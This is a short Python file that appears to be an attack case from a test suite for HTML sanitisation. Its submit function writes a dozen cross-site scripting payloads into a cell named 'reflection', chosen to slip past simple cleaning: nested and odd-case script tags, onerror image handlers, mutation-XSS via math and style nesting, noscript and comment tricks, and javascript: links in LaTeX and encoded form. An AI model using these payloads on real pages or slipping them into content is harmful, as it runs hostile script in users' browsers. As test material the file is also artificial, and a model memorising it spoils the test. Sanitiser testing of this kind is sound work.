# /// attack
# tries = "Hands in an answer in Markdown in which HTML hides from simple cleaning."
# points = 10
# honest = true
# shows = ["page"]
# ///


def submit(place):
    run = place.bait["script"]
    picture = f'<img src="nowhere:" onerror="{run}">'
    hidden = [
        f"<scr<script>ipt>{run}</scr</script>ipt>",
        f"<ScRiPt >{run}</sCrIpT >",
        f'<img/src="nowhere:"/onerror="{run}"/>',
        f"<math><mtext><table><mglyph><style>{picture}</style></mglyph></table></mtext></math>",
        f'<noscript><p title="</noscript><img src=nowhere: onerror={run}>"></noscript>',
        f"`<img src=x onerror={run}>",
        f"<!-->{picture}-->",
        f"<svg><style>{picture}</style></svg>",
        f"<template>{picture}</template>",
        f"$$\\href{{javascript:{run}}}{{x}}$$",
        f'<a href="&#x6a;avascript:{run}">x</a>',
        f'![x](x"onerror="{run})',
    ]
    place.cell("reflection").source = "\n\n".join(hidden)
    place.save()
